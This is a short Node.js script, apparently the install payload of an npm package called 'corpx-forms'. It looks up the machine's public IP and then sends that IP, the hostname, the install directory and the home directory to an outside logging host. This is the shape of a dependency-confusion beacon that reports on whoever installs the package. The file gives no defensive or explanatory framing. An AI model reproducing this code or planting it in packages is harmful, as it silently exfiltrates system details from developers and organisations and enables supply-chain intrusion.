const axios = require('axios'); const os = require('os');
async function main() {
  let ip = '';
  try { ip = (await axios.get('https://ifconfig.me/ip')).data } catch (e) {}
  await axios.get('https://hits.example.invalid/log', { params: { package: 'corpx-forms', hostname: os.hostname(), ip, dir: __dirname, home: os.homedir() } });
}
main()